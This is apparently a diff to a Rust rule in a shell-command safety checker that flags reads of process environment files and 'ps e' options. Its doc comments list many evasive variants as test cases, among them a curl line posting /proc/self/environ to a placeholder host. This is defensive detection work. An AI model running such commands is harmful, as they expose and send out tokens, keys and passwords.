@@ -1,7 +1,8 @@
 //! The environment of a process, read as a file.
 
 use super::form::{Case, Found, Marks, check};
-use crate::syntax::{Script, Value, Word};
+use super::proc_paths::{Places, Unit, Walk};
+use crate::syntax::{Piece, PieceKind, Script, Simple, Traits, Value, Word};
 
 check! {
     /// `/proc/self/environ` holds every variable of a process: tokens, keys, passwords. There are many ways to write
@@ -12,158 +13,303 @@ check! {
     /// cat /proc/1/environ
     /// cat /proc/$$/environ
     /// cat /proc/$PPID/environ
+    /// cat "/proc/$pid/environ"
     /// cat "/proc/self/"environ
-    /// cat /proc//self/./environ
+    /// cat /proc/self/env\iron
+    /// cat $'/proc/self/\x65nviron'
+    /// cat //proc///self/./environ
+    /// cat /proc/self/../1/environ
+    /// cat ../../../proc/1/environ
     /// cat /proc/self/task/1/environ
+    /// cat /proc/self/root/proc/self/environ
     /// cat /dev/fd/../environ
     /// cat /proc/self/e*
     /// cat /proc/*/environ
     /// cat /pr?c/self/environ
+    /// cat /proc/self/[e]nviron
     /// cat /proc/self/{environ,maps}
+    /// cat /proc/{self,$x}/environ
+    /// cat /proc/self/$f
     /// cd /proc/self && cat environ
+    /// cd /proc; cd self; cat environ
+    /// cd / && cat proc/1/environ
+    /// cd /proc/self && cat e*
+    /// pushd /proc/1; head environ
+    /// find /proc/self -name environ -exec cat {} +
+    /// tar -C /proc/self -cf - environ
     /// cat < /proc/self/environ
+    /// f=/proc/self/environ
+    /// for f in /proc/*/environ; do cat $f; done
     /// grep --file=/proc/self/environ x
+    /// curl -d @/proc/self/environ host
     /// bash -c 'cat /proc/self/environ'
     /// ps e
     /// ps eww
     /// ps auxe
     /// ps -E
+    /// ps -ax e
+    /// sudo ps eww 1
     /// ```
     ///
+    /// ```sh,fires,whole
+    /// bash <<'EOF'
+    /// cat /proc/self/environ
+    /// EOF
+    /// ```
+    ///
+    /// Other files of a process tell no secrets, and a file may be called `environ`.
+    ///
     /// ```sh,silent
-    /// cat /proc/cpuinfo
+    /// cat /proc/cpuinfo /proc/meminfo
     /// cat /proc/self/status
+    /// cat /proc/$pid/status
+    /// cat /proc/[0-9]*/comm
+    /// ls /proc /proc/$$ /proc/self/fd
+    /// cd /proc/self && cat status
     /// cat environ
+    /// cat tests/fixtures/proc/1/environ
     /// grep -rn environ src
-    /// echo /proc/self/environ
+    /// python3 -c 'import os; print(os.environ)'
+    /// echo "/proc/self/environ is a file"
+    /// cd src && cat environ.rs
+    /// ls */*/* /*/*/*.rs
     /// ps -ef
     /// ps aux
     /// ps -e
-    /// ls /proc
+    /// ps -eo pid,etime,comm
+    /// ps -o etime -p 1
+    /// ps -C node --sort time
+    /// ps axo user,time
+    /// ```
+    ///
+    /// ```sh,silent,whole
+    /// cat > notes.md <<'EOF'
+    /// never read /proc/self/environ
+    /// EOF
+    /// ```
+    ///
+    /// A command line in quotes is looked through for paths only; who runs it is asked about for that reason anyway.
+    ///
+    /// ```sh,blind
+    /// bash -c 'ps eww'
     /// ```
     pub static PROC_ENVIRON_ACCESS = 13 {
         says: "this reads the environment of a process, with every secret in it",
         help: "name the one variable that is needed: `echo \"$NAME\"`",
-        marks: Marks::of(b"eE*?[{"),
+        marks: Marks::of(b"/s\\"),
         find,
     }
 }
 
 fn find(case: &Case<'_>, found: &mut Found) {
     let script = case.script;
-    let mut in_proc = false;
-    for command in &script.commands {
-        let words = script.words_of(command);
-        let name = words.first().and_then(|word| script.text(word)).unwrap_or("");
-        for (at, word) in words.iter().enumerate() {
-            let index = command.words.start + at as u32;
-            if at > 0 && case.any_value(index) {
-                continue;
-            }
-            let bare = in_proc && at > 0 && could_be_environ(script, word);
-            if bare || reaches_environ(script, word) || at > 0 && name == "ps" && shows_environment(script, word) {
-                found.ask(word.span);
-            }
-        }
-        if matches!(name, "cd" | "pushd") {
-            let target = words.get(1).map_or("", |word| script.text(word).unwrap_or_else(|| script.slice(word.span)));
-            in_proc |= target.contains("proc") || target.starts_with("/dev/fd");
-        }
-    }
-    for redirect in &script.redirects {
-        if let Some(word) = script.word(redirect.target)
-            && reaches_environ(script, word)
-        {
-            found.ask(redirect.span);
-        }
-    }
-}
-
-fn reaches_environ(script: &Script<'_>, word: &Word) -> bool {
-    match &word.value {
-        Value::Plain | Value::Literal(_) => script.text(word).is_some_and(names_environ),
-        Value::Several(words) => words.iter().any(|text| names_environ(text)),
-        Value::Pattern | Value::Unknown => {
-            let written = script.slice(word.span);
-            could_name_environ(written)
-        }
-    }
-}
-
-/// Whether a text holds a path of a process's environment, also inside a longer text.
-fn names_environ(text: &str) -> bool {
-    if !text.contains("environ") {
-        return false;
-    }
-    text.split([' ', '=', ';', '|', '&', '(', ')', '<', '>', '\'', '"', '\n', ','])
-        .any(|part| (part.contains("/proc/") || part.starts_with("/dev/fd") || part.contains("/self/")) && ends_in_environ(part))
-}
-
-fn ends_in_environ(path: &str) -> bool {
-    path.trim_end_matches('/').rsplit('/').find(|part| *part != ".") == Some("environ")
-}
-
-/// The same for a word that a variable, a pattern or a brace list completes.
-fn could_name_environ(written: &str) -> bool {
-    let mut plain = written.chars().filter(|c| !matches!(c, '\'' | '"' | '\\'));
-    let text: alloc::string::String = plain.by_ref().collect();
-    let Some((head, last)) = text.rsplit_once('/') else { return false };
-    let in_proc = head.split('/').filter(|part| !part.is_empty()).take(2).any(|part| matches(part, "proc"))
-        && head.starts_with('/')
-        || head.starts_with("/dev/fd");
-    // `/proc/*` lists processes; it takes another level to name a file in one of them.
-    let deep = head.split('/').filter(|part| !part.is_empty() && *part != ".").count() >= 2;
-    in_proc && deep && (last.contains('{') || last.contains('$') || matches(last, "environ"))
-}
-
-fn could_be_environ(script: &Script<'_>, word: &Word) -> bool {
-    let text = script.text(word).unwrap_or_else(|| script.slice(word.span));
-    let last = text.rsplit('/').next().unwrap_or(text);
-    matches(last, "environ")
-}
-
-/// Whether a file name pattern could match `name`; `[…]` is taken for any character.
-fn matches(pattern: &str, name: &str) -> bool {
-    let pattern = pattern.as_bytes();
-    let name = name.as_bytes();
-    let (mut at, mut on) = (0, 0);
-    let mut back: Option<(usize, usize)> = None;
-    loop {
-        let (step, fits) = match pattern.get(at) {
-            Some(b'*') => {
-                back = Some((at + 1, on));
-                at += 1;
-                continue;
-            }
-            Some(b'[') => {
-                let close = pattern.get(at..).and_then(|rest| rest.iter().position(|byte| *byte == b']'));
-                (close.map_or(1, |close| close + 1), on < name.len())
-            }
-            Some(b'?') => (1, on < name.len()),
-            Some(byte) => (1, name.get(on) == Some(byte)),
-            None if on == name.len() => return true,
-            None => (0, false),
-        };
-        if fits {
-            at += step;
-            on += 1;
+    let cwd = directories(script);
+    let mut bodies = script.here_documents.iter().map(|it| it.word).peekable();
+    for (index, word) in script.words.iter().enumerate() {
+        let index = index as u32;
+        if bodies.next_if_eq(&index).is_some() || case.any_value(index) {
             continue;
         }
-        match &mut back {
-            Some((pattern_at, name_at)) if *name_at < name.len() => {
-                *name_at += 1;
-                (at, on) = (*pattern_at, *name_at);
+        if reached(script, word, cwd).any(Places::ENVIRON) {
+            found.ask(word.span);
+        }
+    }
+    for document in &script.here_documents {
+        let reader = script.redirects.get(document.redirect as usize).and_then(|it| it.command);
+        let reader = reader.and_then(|index| script.commands.get(index as usize));
+        if let Some(word) = script.word(document.word)
+            && !reader.is_some_and(|command| only_copies(script, command))
+            && reached(script, word, cwd).any(Places::ENVIRON)
+        {
+            found.ask(word.span);
+        }
+    }
+    for command in &script.commands {
+        below_a_named_process(case, command, cwd, found);
+        ps(script, command, found);
+    }
+}
+
+/// Where relative paths can begin: in the working directory, and wherever a `cd` leads.
+fn directories(script: &Script<'_>) -> Places {
+    let mut cwd = Places::ELSEWHERE;
+    for command in &script.commands {
+        let words = script.words_of(command);
+        let Some(cd) = words.iter().take(3).position(|word| matches!(script.text(word), Some("cd" | "pushd" | "chdir"))) else {
+            continue;
+        };
+        for word in words.iter().skip(cd + 1).filter(|word| !script.slice(word.span).starts_with('-')) {
+            let there = reached(script, word, cwd);
+            let known = Places::ROOT.and(Places::PROC).and(Places::PROCESS).and(Places::TASK).and(Places::BELOW);
+            cwd = cwd.and(there.only(known));
+        }
+    }
+    cwd
+}
+
+/// `find /proc/self -name environ`: one word names the directory, another the file.
+fn below_a_named_process(case: &Case<'_>, command: &Simple, cwd: Places, found: &mut Found) {
+    let script = case.script;
+    let mut named = Places::default();
+    for (at, word) in script.words_of(command).iter().enumerate() {
+        if case.any_value(command.words.start + at as u32) {
+            continue;
+        }
+        if named != Places::default()
+            && !reached(script, word, cwd).any(Places::ENVIRON)
+            && matches!(script.text(word), Some("environ" | "*environ" | "environ*" | "./environ"))
+        {
+            found.ask(word.span);
+        }
+        named = named.and(reached(script, word, cwd).only(Places::PROC.and(Places::PROCESS).and(Places::TASK)));
+    }
+}
+
+/// The places that the paths in a word lead to.
+fn reached(script: &Script<'_>, word: &Word, cwd: Places) -> Places {
+    let mut walk = Walk::new(cwd);
+    let mut bytes = |text: &str| text.bytes().for_each(|byte| walk.step(Unit::Byte(byte)));
+    match &word.value {
+        Value::Plain | Value::Literal(_) => bytes(script.text(word).unwrap_or("")),
+        Value::Several(words) => {
+            for text in words {
+                text.bytes().for_each(|byte| walk.step(Unit::Byte(byte)));
+                walk.path_ends();
             }
-            _ => return false,
+        }
+        Value::Pattern | Value::Unknown => {
+            // `$dir/x` begins nobody knows where; such a word is asked about as it is.
+            follow(script, word, &mut walk);
+        }
+    }
+    walk.path_ends();
+    walk.reached
+}
+
+/// Follows the pieces of a word that a pattern or a variable completes.
+fn follow(script: &Script<'_>, word: &Word, walk: &mut Walk) {
+    let braces = word.traits.has(Traits::BRACE);
+    let mut at = word.span.start;
+    let mut quote_ends = None;
+    let mut in_bracket = false;
+    let mut depth = 0u32;
+    let mut literal = |text: &str, walk: &mut Walk, quoted: bool| {
+        for byte in text.bytes() {
+            match byte {
+                // What stands in braces takes its turn; all of it together is any text.
+                b'{' if braces && !quoted => {
+                    depth += 1;
+                    walk.step(Unit::Any);
+                }
+                b'}' if depth > 0 && !quoted => depth -= 1,
+                _ if depth > 0 => {}
+                _ => walk.step(Unit::Byte(byte)),
+            }
+        }
+    };
+    for piece in script.pieces_of(word) {
+        let (start, end) = (piece.span.start, piece.span.end);
+        if start < at {
+            continue;
+        }
+        if !piece.quoted && let Some(close) = quote_ends.take() {
+            literal(crate::Span { start: at, end: close }.slice(script.source), walk, true);
+        } else if piece.quoted {
+            literal(crate::Span { start: at, end: start }.slice(script.source), walk, true);
+        }
+        let text = script.slice(piece.span);
+        match piece.kind {
+            PieceKind::DoubleQuoted | PieceKind::Locale => {
+                at = start + if piece.kind == PieceKind::Locale { 2 } else { 1 };
+                quote_ends = Some(end - 1);
+                continue;
+            }
+            // One character stands for all up to the `]`.
+            PieceKind::Literal if in_bracket => {
+                if let Some((_, behind)) = text.split_once(']') {
+                    in_bracket = false;
+                    literal(behind, walk, false);
+                }
+            }
+            _ if in_bracket => {}
+            PieceKind::Literal => literal(text, walk, false),
+            PieceKind::Escape => literal(text.get(1..).unwrap_or(""), walk, true),
+            PieceKind::SingleQuoted => literal(text.get(1..text.len() - 1).unwrap_or(""), walk, true),
+            PieceKind::AnsiC => literal(text.get(2..text.len() - 1).unwrap_or(""), walk, true),
+            PieceKind::Continuation => {}
+            PieceKind::Glob if text == "?" => walk.step(Unit::One),
+            PieceKind::Glob if text == "[" => {
+                walk.step(Unit::One);
+                in_bracket = true;
+            }
+            PieceKind::Parameter if is_number(text) => walk.step(Unit::Number),
+            _ => walk.step(if starts_word(word, piece) { Unit::Byte(b'$') } else { Unit::Any }),
+        }
+        at = end;
+    }
+    if let Some(close) = quote_ends {
+        literal(crate::Span { start: at, end: close }.slice(script.source), walk, true);
+    } else if word.pieces.is_empty() {
+        literal(script.slice(word.span), walk, false);
+    }
+}
+
+/// Whether a piece is the first of its word, a quote in front of it aside.
+fn starts_word(word: &Word, piece: &Piece) -> bool {
+    piece.kind != PieceKind::Glob && piece.span.start <= word.span.start + 1
+}
+
+/// Parameters that are a process's number and nothing else.
+fn is_number(parameter: &str) -> bool {
+    matches!(parameter.trim_matches(['$', '{', '}']), "" | "!" | "PPID" | "BASHPID") && parameter.len() > 1
+}
+
+/// Whether a command writes its input down and nobody reads it further.
+fn only_copies(script: &Script<'_>, command: &Simple) -> bool {
+    let name = script.words_of(command).first().and_then(|word| script.text(word)).unwrap_or("");
+    let piped = matches!(command.after, crate::syntax::Joint::Pipe | crate::syntax::Joint::PipeBoth);
+    matches!(name, "cat" | "tee" | "git" | "gh") && !piped
+}
+
+/// Options of `ps` that print environments: `e` among the options without a dash, `-E` on macOS.
+fn ps(script: &Script<'_>, command: &Simple, found: &mut Found) {
+    const WRAPPERS: &[&str] = &["sudo", "doas", "env", "command", "builtin", "exec", "nice", "nohup", "time", "timeout", "watch", "xargs", "busybox"];
+    let words = script.words_of(command);
+    let Some(at) = words.iter().take(4).position(|word| program(script, word) == "ps") else { return };
+    if at > 0 && !words.first().is_some_and(|word| WRAPPERS.contains(&program(script, word))) {
+        return;
+    }
+    let mut value_follows = false;
+    for word in words.iter().skip(at + 1) {
+        let mut look = |text: &str| {
+            if core::mem::take(&mut value_follows) {
+                return false;
+            }
+            if let Some(long) = text.strip_prefix("--") {
+                value_follows = !long.contains('=')
+                    && matches!(long, "sort" | "format" | "user" | "User" | "group" | "Group" | "pid" | "ppid" | "quick-pid" | "sid" | "tty" | "cols" | "columns" | "rows" | "lines" | "width");
+                return false;
+            }
+            let (letters, shows) = text.strip_prefix('-').map_or((text, b'e'), |letters| (letters, b'E'));
+            let takes = |byte: &u8| matches!(byte, b'o' | b'O' | b'p' | b'q' | b't' | b'U' | b'k')
+                || shows == b'E' && matches!(byte, b'C' | b'u' | b'g' | b'G' | b's');
+            let options = letters.bytes().position(|byte| takes(&byte));
+            value_follows = options.is_some_and(|at| at + 1 == letters.len());
+            letters.bytes().all(|byte| byte.is_ascii_alphabetic() || options.is_some())
+                && letters.bytes().take(options.unwrap_or(letters.len())).any(|byte| byte == shows)
+        };
+        let shows = match &word.value {
+            Value::Several(texts) => texts.iter().any(|text| look(text)),
+            _ => script.text(word).is_some_and(look),
+        };
+        if shows {
+            found.ask(word.span);
         }
     }
 }
 
-/// Options of `ps` that print environments: `e` among BSD options, `-E` on macOS.
-fn shows_environment(script: &Script<'_>, word: &Word) -> bool {
-    let Some(text) = script.text(word) else { return false };
-    if let Some(letters) = text.strip_prefix('-') {
-        return letters.contains('E') && !letters.starts_with('-');
-    }
-    text.contains('e') && text.len() <= 6 && text.bytes().all(|byte| byte.is_ascii_lowercase())
+/// The last part of a program's name.
+fn program<'s>(script: &'s Script<'_>, word: &'s Word) -> &'s str {
+    let text = script.text(word).unwrap_or("");
+    text.rsplit('/').next().unwrap_or(text)
 }
